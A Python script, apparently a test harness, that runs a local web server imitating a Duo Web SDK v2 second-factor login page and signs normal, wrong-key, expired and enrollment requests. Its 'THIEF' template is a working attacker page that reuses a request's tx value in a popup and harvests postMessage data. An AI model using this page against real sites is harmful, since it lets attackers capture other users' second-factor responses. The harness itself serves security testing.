"""A web application of old: its login page holds the second factor in a frame (Web SDK v2), by `duo_web` and its script, unmodified.

    python web_sdk_2.py SETTINGS      ikey, skey, akey and host, as JSON

Says `listening PORT`. Whoever asks for a page says who logs in; the page of the application's own login is left out.
"""

import html
import itertools
import json
import sys
import warnings
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    import duo_web

# Wheels put the script below the environment's own directory.
SCRIPT = Path(sys.prefix, "js", "Duo-Web-v2.js").read_bytes()

LOGIN = """<h1>Second factor</h1><style>iframe {{ width: 560px; height: 560px; border: 0 }}</style>
<script src="/Duo-Web-v2.js"></script>
<iframe id="duo_iframe" title="Second factor" data-host="{host}" data-sig-request="{request}" data-post-action="/done"></iframe>"""

# Somebody else's page, which has got hold of a request and opens the window itself.
THIEF = """<h1>Free coffee</h1><p id="stolen"></p>
<script>
addEventListener("message", (event) => {{ document.getElementById("stolen").textContent += event.data + ";"; }});
function steal() {{ window.open("", "prize", "popup"); document.getElementById("bait").submit(); }}
</script>
<form id="bait" method="post" action="https://{host}/frame/web/v1/login" target="prize"><input type="hidden" name="tx" value="{tx}">
<button type="button" id="open" onclick="steal()">Get it</button></form>"""


class Application(BaseHTTPRequestHandler):
    def do_GET(self):
        target = urlsplit(self.path)
        asked = {name: values[0] for name, values in parse_qs(target.query).items()}
        if target.path == "/Duo-Web-v2.js":
            return self.answer(SCRIPT, "text/javascript")
        request = asked.get("request") or sign(asked.get("user", "alice"), asked.get("as", ""))
        if target.path == "/thief":
            return self.page(THIEF, host=host, tx=request.split(":")[0])
        self.page(LOGIN, host=host, request=request)

    def do_POST(self):
        form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        response = form.get("sig_response", [""])[0]
        user = duo_web.verify_response(ikey, skey, akey, response)
        verified = '<h1>You are in</h1><p id="who">{user}</p><p id="response">{response}</p>'
        self.page(verified if user else '<h1 id="refused">You are not in</h1>', user=user, response=response)

    def page(self, body, **values):
        filled = body.format(**{name: html.escape(str(value)) for name, value in values.items()})
        self.answer(f"<!doctype html><html lang=en><meta charset=utf-8><title>Payroll</title>{filled}".encode(), "text/html")

    def answer(self, body, kind):
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments):
        pass


def sign(user, how):
    if how == "wrong-key":
        return duo_web.sign_request(ikey, "w" * 40, akey, user)
    if how == "expired":
        halves = [duo_web._sign_vals(key, [user, ikey], prefix, -90) for key, prefix in ((skey, "TX"), (akey, "APP"))]
        return ":".join(halves)
    if how == "enroll":
        return duo_web.sign_enroll_request(ikey, skey, akey, user)
    # A request is its user and the second in which it ends: two of the same second would be one, and good once.
    duo_web.DUO_EXPIRE = 300 + next(requests)
    return duo_web.sign_request(ikey, skey, akey, user)


requests = itertools.count()
settings = json.loads(sys.argv[1])
ikey, skey, akey, host = (settings[name] for name in ("ikey", "skey", "akey", "host"))
# Also on `localhost`, where it is of another origin.
server = ThreadingHTTPServer(("127.0.0.1", 0), Application)
print("listening", server.server_port, flush=True)
server.serve_forever()
